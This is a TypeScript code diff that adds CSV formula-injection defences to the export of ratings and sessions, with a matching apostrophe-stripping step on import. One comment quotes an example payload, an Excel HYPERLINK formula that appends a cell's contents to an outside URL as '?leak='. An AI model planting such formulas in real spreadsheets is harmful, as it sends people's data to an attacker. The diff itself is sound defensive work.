@@ -17,7 +17,7 @@ import { periodSpeller } from './periods';
 import { Problem } from './problems';
 import { Rating } from './ratings';
 import { RoleProfile, unknownRoleMessage } from './roles';
-import { parseScore, Scale, scoreText } from './scale';
+import { parseScore, Scale, Score, scoreText } from './scale';
 import { AgeGroup } from './settings';
 import { criterionProblem } from './codes';
 
@@ -388,7 +388,7 @@ export function readCsv(text: string, file: string, spec: TableSpec): CsvTable {
   raw.forEach((cells, i) => {
     if (i <= headerAt || blank(cells)) return;
     const values = {} as Row;
-    for (const c of columns) values[c] = c in at ? (cells[at[c]] ?? '').trim() : '';
+    for (const c of columns) values[c] = c in at ? restoreFormulaText((cells[at[c]] ?? '').trim()) : '';
     rows.push({ row: i + 1 + skipped, values });
   });
   const dateCells = (spec.dates ?? [])
@@ -410,15 +410,39 @@ export function readCsv(text: string, file: string, spec: TableSpec): CsvTable {
 // Writing: the one function
 // ---------------------------------------------------------------------------------------
 
-const csvField = (s: string) => (/[",\r\n;]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
+/**
+ * Formula injection (CSV injection, OWASP): Excel opening a CSV runs a field that begins with = + - @ (or a
+ * tab or carriage return before one) as a formula, so `=HYPERLINK("http://…?leak="&B2)` typed as a note
+ * into a returned form would become a live link in ratings.csv. Every text field we write that begins with
+ * one of those characters gets a leading apostrophe, as does a text that already begins with apostrophes
+ * before one, so that reading undoes exactly one apostrophe and the round trip gives back the text as
+ * typed. Numbers are written as numbers: a negative number stays a number.
+ */
+const FORMULA_START = /^'*[=+\-@\t\r]/;
+
+export function neutraliseFormula(text: string): string {
+  return FORMULA_START.test(text) ? `'${text}` : text;
+}
+
+/** Undoes neutraliseFormula: one apostrophe off a field that is apostrophes then a formula character. */
+export function restoreFormulaText(field: string): string {
+  return field.startsWith("'") && FORMULA_START.test(field) ? field.slice(1) : field;
+}
+
+const csvField = (cell: string | number) => {
+  if (typeof cell === 'number') return String(cell);
+  const s = neutraliseFormula(cell);
+  return /[",\r\n;\t]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
+};
 
 /**
  * CSV text: a UTF-8 byte order mark (so Excel reads accents right; `bom: false` leaves it out), the header,
- * one line per row, fields quoted when they hold a quote, separator, line break or edge space.
+ * one line per row, fields quoted when they hold a quote, separator, line break, tab or edge space. Text
+ * that Excel would run as a formula is neutralised (neutraliseFormula); numbers are written as numbers.
  */
 export function writeCsv(
   columns: readonly string[],
-  rows: readonly (readonly string[])[],
+  rows: readonly (readonly (string | number)[])[],
   opts: { bom?: boolean } = {},
 ): string {
   const text = [columns, ...rows].map((r) => r.map(csvField).join(',')).join('\n');
@@ -433,6 +457,10 @@ export function teamCsv(workers: Worker[]): string {
   );
 }
 
+/** A score as a number, N/A and blank as their texts. */
+const scoreCell = (score: Score, scale: Scale): string | number =>
+  score.kind === 'score' ? score.value : scoreText(score, scale);
+
 /** Ratings in the ratings.csv contract; the plan columns (goal, action steps, target date) when any has one. */
 export function ratingsCsv(ratings: Rating[], scale: Scale): string {
   const plan = ratings.some((r) => r.goal || r.actionSteps || r.targetDate);
@@ -443,8 +471,8 @@ export function ratingsCsv(ratings: Rating[], scale: Scale): string {
       r.period,
       r.frameworkId,
       r.competencyId,
-      scoreText(r.self, scale),
-      scoreText(r.supervisor, scale),
+      scoreCell(r.self, scale),
+      scoreCell(r.supervisor, scale),
       r.notes,
       ...(plan ? [r.goal ?? '', r.actionSteps ?? '', r.targetDate ?? ''] : []),
     ]),
@@ -453,14 +481,14 @@ export function ratingsCsv(ratings: Rating[], scale: Scale): string {
 
 /** Sessions in the sessions.csv contract. */
 export function sessionsCsv(sessions: Session[]): string {
-  const item = (v: number | null) => (v === null ? '' : String(v));
+  const item = (v: number | null) => v ?? '';
   return writeCsv(
     SESSION_COLUMNS,
     sessions.map((s) => [
       s.personCode,
       s.workerId,
       s.date,
-      String(s.session),
+      s.session,
       ...s.ors.map(item),
       ...s.srs.map(item),
       s.ageGroup,
